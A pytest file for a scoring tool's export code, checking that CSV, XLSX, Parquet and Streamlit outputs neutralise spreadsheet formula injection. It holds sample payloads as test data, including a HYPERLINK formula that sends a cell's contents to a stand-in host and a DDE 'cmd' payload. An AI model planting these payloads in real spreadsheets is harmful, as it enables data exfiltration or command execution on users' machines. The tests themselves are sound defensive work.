"""Result files: CSV with a BOM for Excel, XLSX with readable column widths, and no cell that a
spreadsheet would run (OWASP CSV injection)."""

from __future__ import annotations

import csv
import os
import shutil
import stat
import subprocess
import sys
import threading
import time
from datetime import date
from decimal import Decimal
from pathlib import Path

import duckdb
import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scoring import bootstrap, db, export
from scoring.engine import to_pandas
from scoring.export import (MAX_WIDTH, XLSX_MAX_ROWS, TooManyRows, _days_text, neutralise, risky, risky_cells,
                            write_batches, write_table, write_workbook)


def test_csv_has_a_bom_and_round_trips(tmp_path):
    frame = pd.DataFrame({"inst_id": ["B01"], "name": ["重庆银行，股份"]})
    path = write_table(frame, tmp_path / "x.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert pd.read_csv(path, encoding="utf-8-sig").equals(frame)


def test_xlsx_columns_are_wide_enough_for_chinese_names(tmp_path):
    frame = pd.DataFrame({"id": ["B01"], "name": ["中国工商银行重庆市分行"], "note": ["长" * 100]})
    path = write_table(frame, tmp_path / "x.xlsx", sheet="机构")
    sheet = openpyxl.load_workbook(path)["机构"]
    assert sheet["B2"].value == "中国工商银行重庆市分行"
    # 11 Chinese characters are 22 Excel characters wide, plus a margin of 2
    assert sheet.column_dimensions["B"].width >= 24
    assert sheet.column_dimensions["C"].width <= MAX_WIDTH + 1
    assert sheet.freeze_panes == "A2"


# --- formula injection (issue 8 item 6; OWASP CSV injection) ---------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"点击查看")'
STARTS = ["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A2)", "\t=1", "\r=1", "  =1+1", "\n@x"]


@pytest.mark.parametrize("text", STARTS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert risky(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.5", "+3", "-3.2%", "-1,200.50", "B01", "重庆银行", "a=b", "", -5, 3.5, None])
def test_plain_numbers_and_ordinary_text_stay_as_they_are(value):
    assert not risky(value)
    assert neutralise(value) == value


def test_csv_cells_and_headers_are_neutralised_and_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame({"id": [HOSTILE, "B01", "@cmd"], "amount": [-5.25, 3.0, -1.0], "=head": ["-1", "x", None]})
    path = write_table(frame, tmp_path / "x.csv")
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["id", "amount", "'=head"]
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE, "B01", "'@cmd"]
    assert [r[1] for r in rows[1:]] == ["-5.25", "3.0", "-1.0"], "numbers are written as numbers"
    assert [r[2] for r in rows[1:]] == ["-1", "x", ""]
    assert frame.loc[0, "id"] == HOSTILE, "the caller's frame is not changed"


@pytest.mark.filterwarnings("error")
def test_an_empty_text_column_is_written_without_a_pandas_warning(tmp_path):
    """An all-empty text column of NaN mapped to float NaN, and filling that with False warned
    (Pandas4Warning); an all-empty string column refused the fill outright."""
    frame = pd.DataFrame({"id": ["B01", "=1+1"], "note": pd.Series([np.nan, np.nan], dtype=object),
                          "memo": pd.Series([None, None], dtype="string")})
    with open(write_table(frame, tmp_path / "x.csv"), encoding="utf-8-sig", newline="") as f:
        assert list(csv.reader(f))[1:] == [["B01", "", ""], ["'=1+1", "", ""]]
    write_workbook({"s": frame}, tmp_path / "x.xlsx")


def test_xlsx_stores_hostile_text_as_quoted_text_never_a_formula(tmp_path):
    frame = pd.DataFrame({"id": [HOSTILE, "http://evil.example", "B01"], "n": [-1, 2, 3]})
    path = write_workbook({"s": frame}, tmp_path / "x.xlsx")
    sheet = openpyxl.load_workbook(path)["s"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == HOSTILE
    assert sheet["A2"].quotePrefix, "Excel keeps the cell text when it is edited"
    assert sheet["A3"].hyperlink is None, "no text becomes a live link"
    assert sheet["B2"].value == -1 and sheet["B2"].data_type == "n"


def _formula_cells(path):
    book = openpyxl.load_workbook(path)
    return [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.slow  # end to end: imports into the demo database and the command line in subprocesses
def test_hostile_ids_reach_no_spreadsheet_as_formulas(demo_path, tmp_path):
    """An application and a payment ID a bank chose reach sla.xlsx, the payment detail and the
    CSVs as inert text; the amounts stay numbers."""
    path = tmp_path / "x.duckdb"
    shutil.copy(demo_path, path)
    con = duckdb.connect(str(path))
    app_id = con.execute("select min(app_id) from applications").fetchall()[0][0]
    payment_id = con.execute("select min(payment_id) from interest_payments where paid_on between '2025-01-01' and "
                             "'2025-12-31'").fetchall()[0][0]
    con.execute("update applications set app_id = $h where app_id = $a", {"h": HOSTILE, "a": app_id})
    con.execute("update interest_payments set payment_id = $h where payment_id = $p", {"h": HOSTILE, "p": payment_id})
    con.close()
    for suffix in ("xlsx", "csv"):
        out = tmp_path / suffix
        for args in (["sla", "--as-of", "2026-11-27", "--out", str(out / f"sla.{suffix}")],
                     ["subsidy", "--year", "2025", "--out", str(out / f"subsidy.{suffix}"),
                      "--detail", str(out / f"payments.{suffix}")]):
            done = subprocess.run([sys.executable, "-m", "scoring", *args, "--db", str(path)],
                                  capture_output=True, text=True, cwd=db.ROOT)
            assert done.returncode == 0, done.stderr
    for name in ("sla", "payments"):
        assert _formula_cells(tmp_path / "xlsx" / f"{name}.xlsx") == []
        frame = pd.read_excel(tmp_path / "xlsx" / f"{name}.xlsx", engine="openpyxl")
        assert HOSTILE in set(frame.iloc[:, 0]), "the text itself is kept"
        text = (tmp_path / "csv" / f"{name}.csv").read_text(encoding="utf-8-sig")
        assert "'" + HOSTILE.replace('"', '""') in text
        assert "\n" + HOSTILE.replace('"', '""') not in text and ',"=' not in text
    payments = pd.read_excel(tmp_path / "xlsx" / "payments.xlsx", engine="openpyxl")
    assert pd.api.types.is_numeric_dtype(payments["interest_paid"]), "money stays numbers"


@pytest.mark.slow  # end to end: evaluates the demo database and writes every output
def test_evaluation_outputs_and_the_report_tables_are_neutralised(demo_path, tmp_path):
    """A bank's name chosen as a formula reaches the evaluation CSVs, the workbook and the 通报
    tables as inert text."""
    from docx import Document

    from scoring.report import write_report
    from scoring.runs import evaluate_and_store, write_outputs

    path = tmp_path / "x.duckdb"
    shutil.copy(demo_path, path)
    con = duckdb.connect(str(path))
    con.execute("update institutions set name = $h where inst_id = 'B01'", {"h": HOSTILE})
    run = evaluate_and_store(con, 2025, draws=0)
    paths = write_outputs(run, tmp_path / "out")
    report = write_report(con, run.run_id, tmp_path / "通报.docx")
    con.close()
    institutions = (tmp_path / "out" / "institutions.csv").read_text(encoding="utf-8-sig")
    assert "'" + HOSTILE.replace('"', '""') in institutions and ',"=HYPER' not in institutions
    assert _formula_cells(next(p for p in paths if p.suffix == ".xlsx")) == []
    cells = [c.text for t in Document(report).tables for row in t.rows for c in row.cells]
    assert "'" + HOSTILE in cells and HOSTILE not in cells


def test_every_data_grid_is_safe_to_download_and_copy():
    """Streamlit's grid offers a CSV download and cell copy of what it shows (issue 8): the app's
    grids (`ui.show.table`, `ui.show.grid`) show hostile text neutralised, numbers as they are."""
    from streamlit.testing.v1 import AppTest

    def page():
        import pandas as pd

        from ui import show

        show.table(pd.DataFrame({"name": ['=HYPERLINK("http://x")', "甲银行"], "n": [-1, 2]}),
                   {"name": "机构", "n": "笔数"})
        show.grid(pd.DataFrame({"值": ["@SUM(A1)", "-12.5"]}))

    app = AppTest.from_function(page).run()
    assert not app.exception
    assert app.dataframe[0].value["机构"].tolist() == ['\'=HYPERLINK("http://x")', "甲银行"]
    assert app.dataframe[0].value["笔数"].tolist() == [-1, 2]
    assert app.dataframe[1].value["值"].tolist() == ["'@SUM(A1)", "-12.5"]


def test_no_page_draws_a_grid_around_the_safe_one():
    root = Path(__file__).resolve().parent.parent
    sources = [root / "app.py", *(root / "pages").glob("*.py"), *(root / "ui").glob("*.py")]
    direct = [p.name for p in sources if p.name != "show.py"
              and any(f"st.{name}(" in p.read_text(encoding="utf-8") for name in ("dataframe", "data_editor", "table"))]
    assert direct == []


# --- streamed outputs (issue 14): the same bytes as the frame writer, no Python object a cell ------

# text with every character the writer treats specially, and formula starts after blanks
TEXT = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n ,\"'%.,0 9aB重５٣")), max_size=8)


def _streamed_and_framed(table: pa.Table, folder, rows_per_batch: int = 3) -> tuple[bytes, bytes]:
    """The CSV bytes of `table` streamed in batches, and of the same rows as the engine's frame
    (Decimal money, Int64, dates) through `write_table`, as the CLI wrote them before."""
    streamed = folder / "streamed.csv"
    write_batches(table.to_reader(max_chunksize=rows_per_batch), streamed)
    framed = write_table(to_pandas(table), folder / "framed.csv")
    return streamed.read_bytes(), framed.read_bytes()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.one_of(st.none(), TEXT), st.one_of(st.none(), st.booleans()),
                          st.one_of(st.none(), st.integers(-10**12, 10**12)),
                          st.one_of(st.none(), st.decimals(-10**9, 10**9, places=2, allow_nan=False)),
                          st.one_of(st.none(), st.dates(date(2000, 1, 1), date(2030, 12, 31)))), max_size=12))
def test_streamed_csv_is_byte_for_byte_what_the_frame_writer_writes(tmp_path, rows):
    table = pa.table({"=id": pa.array([r[0] for r in rows], pa.string()),
                      "flag": pa.array([r[1] for r in rows], pa.bool_()),
                      "n": pa.array([r[2] for r in rows], pa.int64()),
                      "amount": pa.array([r[3] for r in rows], pa.decimal128(18, 2)),
                      "day": pa.array([r[4] for r in rows], pa.date32())})
    streamed, framed = _streamed_and_framed(table, tmp_path)
    assert streamed == framed


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.dates(date(1, 1, 1), date(9999, 12, 31)) | st.dates(date(2025, 1, 1),
                                                                                      date(2025, 1, 9))),
                max_size=30), st.integers(0, 5))
def test_dates_cast_once_per_day_of_their_span_read_as_each_cast_alone(days, offset):
    """The streamed CSV casts a date column one day of its span at a time (`_days_text`): the same text
    as casting every cell, nulls and a sliced batch included."""
    column = pa.array(days, pa.date32()).slice(min(offset, len(days)))
    assert _days_text(column).to_pylist() == column.cast(pa.string()).to_pylist()


@settings(max_examples=200, deadline=None)
@given(st.lists(TEXT, min_size=1, max_size=20))
def test_the_arrow_test_for_risky_text_is_risky(texts):
    assert risky_cells(pa.array(texts, pa.string())).to_pylist() == [risky(t) for t in texts]


def test_streamed_csv_neutralises_hostile_cells_and_keeps_rates_exact(tmp_path):
    table = pa.table({"id": [HOSTILE, "B01", " @x", "-12.5", None],
                      "rate": pa.array([Decimal("0.031500"), Decimal("0"), None, Decimal("-1.5"), Decimal("2")],
                                       pa.decimal128(9, 6))})
    streamed, framed = _streamed_and_framed(table, tmp_path)
    assert streamed == framed
    rows = list(csv.reader(streamed.decode("utf-8-sig").splitlines()))
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE, "B01", "' @x", "-12.5", ""]
    assert [r[1] for r in rows[1:]] == ["0.031500", "0.000000", "", "-1.500000", "2.000000"]


def test_an_empty_result_is_its_header_and_a_lone_empty_cell_is_quoted(tmp_path):
    for table in (pa.table({"a": pa.array([], pa.string()), "b": pa.array([], pa.int64())}),
                  pa.table({"a": pa.array(["", None, "x"], pa.string())})):
        streamed, framed = _streamed_and_framed(table, tmp_path)
        assert streamed == framed


def test_a_table_beyond_one_xlsx_sheet_is_refused_in_chinese_and_nothing_is_written(tmp_path):
    table = pa.table({"a": ["x"]})
    with pytest.raises(TooManyRows, match="超过 Excel 单个工作表的上限 1,048,576 行.*请改用 .csv"):
        write_batches(table.to_reader(), tmp_path / "big.xlsx", rows=XLSX_MAX_ROWS)
    assert list(tmp_path.iterdir()) == []


def test_a_streamed_xlsx_keeps_numbers_dates_and_quoted_text(tmp_path):
    table = pa.table({"id": [HOSTILE, "B01"], "amount": pa.array([Decimal("12.50"), None], pa.decimal128(18, 2)),
                      "day": [date(2025, 3, 1), date(2025, 3, 2)], "ok": [True, False]})
    path = tmp_path / "x.xlsx"
    assert write_batches(table.to_reader(max_chunksize=1), path, sheet="明细") == 2
    sheet = openpyxl.load_workbook(path)["明细"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == HOSTILE and sheet["A2"].quotePrefix
    assert sheet["B2"].value == 12.5 and sheet["B3"].value is None
    assert sheet["C2"].value.date() == date(2025, 3, 1) and sheet["D2"].value is True
    assert sheet.freeze_panes == "A2" and _formula_cells(path) == []


def test_a_streamed_parquet_keeps_types_order_and_text_exactly_and_a_failure_leaves_no_file(tmp_path):
    # for programs: money stays decimal128, days dates, and an identifier is what was stored (no apostrophe)
    table = pa.table({"id": [HOSTILE, "B01", None], "amount": pa.array([Decimal("12.50"), None, Decimal("-0.01")],
                                                                       pa.decimal128(18, 2)),
                      "day": [date(2025, 3, 1), None, date(2025, 3, 2)], "ok": [True, False, None]})
    path = tmp_path / "x.parquet"
    assert write_batches(table.to_reader(max_chunksize=1), path) == 3
    assert pq.read_table(path).equals(table)

    _fails_after_one_batch(table, tmp_path / "failed.parquet")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.parquet"]


def test_a_table_written_as_parquet_reads_back_the_same(tmp_path):
    frame = pd.DataFrame({"inst_id": [HOSTILE, "B01"], "score": [81.25, None],
                          "subsidy": [Decimal("1.05"), Decimal("20000.00")]})
    assert write_table(frame, tmp_path / "t.parquet") == tmp_path / "t.parquet"
    back = pd.read_parquet(tmp_path / "t.parquet")
    assert back["inst_id"].tolist() == [HOSTILE, "B01"] and back["subsidy"].tolist() == frame["subsidy"].tolist()
    assert back["score"].iloc[0] == 81.25 and pd.isna(back["score"].iloc[1])
    assert [p.name for p in tmp_path.iterdir()] == ["t.parquet"]


def test_a_streamed_csv_keeps_the_batch_order_and_a_failing_query_leaves_no_file(tmp_path):
    # small batches (scoring.engine.BATCH_ROWS) keep memory bounded: many of them make one file in
    # order, and an error raised while fetching leaves no file, not even a partial one
    table = pa.table({"n": list(range(1000))})
    path = tmp_path / "ordered.csv"
    assert write_batches(table.to_reader(max_chunksize=7), path) == 1000
    assert path.read_bytes().decode("utf-8-sig").split("\n")[1:-1] == [str(n) for n in range(1000)]

    _fails_after_one_batch(table, tmp_path / "failed.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ordered.csv"]


def test_batches_formatted_at_once_are_written_in_their_order(tmp_path, monkeypatch):
    # the CSV lines of FORMATTERS batches are formatted on threads of their own: a batch that takes longer
    # than the one after it must still be written before it
    lines = export._csv_lines

    def slow_when_even(batch):
        if batch.column(0)[0].as_py() % 2 == 0:
            time.sleep(0.01)
        return lines(batch)

    monkeypatch.setattr(export, "_csv_lines", slow_when_even)
    path = tmp_path / "ordered.csv"
    assert write_batches(pa.table({"n": list(range(40))}).to_reader(max_chunksize=1), path) == 40
    assert path.read_bytes().decode("utf-8-sig").split("\n")[1:-1] == [str(n) for n in range(40)]
    assert not [t for t in threading.enumerate() if t.name.startswith("export-format")]


def _fails_after_one_batch(table: pa.Table, path: Path) -> None:
    """Stream `table` to `path` from a query that fails after its first batch: the error reaches the caller."""
    def failing():
        yield table.to_batches(max_chunksize=1)[0]
        raise duckdb.OutOfMemoryException("out of memory")

    with pytest.raises(duckdb.OutOfMemoryException):
        write_batches(pa.RecordBatchReader.from_batches(table.schema, failing()), path)


def test_a_failing_write_stops_the_reading_ahead_and_leaves_no_file(tmp_path, monkeypatch):
    # the batches are read on a thread of their own (export._read_ahead): when writing fails (a full
    # disk), that thread must stop pulling from the database and be gone before the caller goes on,
    # even from a result that would never end
    pulled = []

    def endless():
        while True:
            pulled.append(1)
            yield pa.record_batch({"n": [len(pulled)]})

    written = []

    def failing_lines(batch):
        if len(written) == 2:
            raise OSError("磁盘已满")
        written.append(batch)
        return b"1\n"

    monkeypatch.setattr(export, "_csv_lines", failing_lines)
    schema = pa.schema([("n", pa.int64())])
    with pytest.raises(OSError, match="磁盘已满"):
        write_batches(pa.RecordBatchReader.from_batches(schema, endless()), tmp_path / "full.csv")
    assert list(tmp_path.iterdir()) == []
    # three batches taken by the writer and at most FORMATTERS more being formatted behind the one that
    # failed, at most READ_AHEAD queued and one in the reader's hands
    assert 3 <= len(pulled) <= 3 + export.FORMATTERS + export.READ_AHEAD + 1
    assert not [t for t in threading.enumerate() if t.name == "export-read"]


def test_a_streamed_file_gets_the_permissions_of_any_file_the_product_writes(tmp_path):
    # the streamed CSV and XLSX went through a temporary file made by mkstemp, mode 0600: the
    # regulator's colleagues could read evaluate's tables but not the sla or subsidy outputs beside them
    previous = os.umask(0o022)
    try:
        table = pa.table({"机构": ["B01", "=1+1"], "金额": [1, 2]})
        write_table(table.to_pandas(), tmp_path / "table.csv")
        write_batches(table.to_reader(), tmp_path / "streamed.csv")
        write_batches(table.to_reader(), tmp_path / "streamed.xlsx", sheet="明细")
        modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in tmp_path.iterdir()}
    finally:
        os.umask(previous)
    assert modes == {"table.csv": 0o644, "streamed.csv": 0o644, "streamed.xlsx": 0o644}
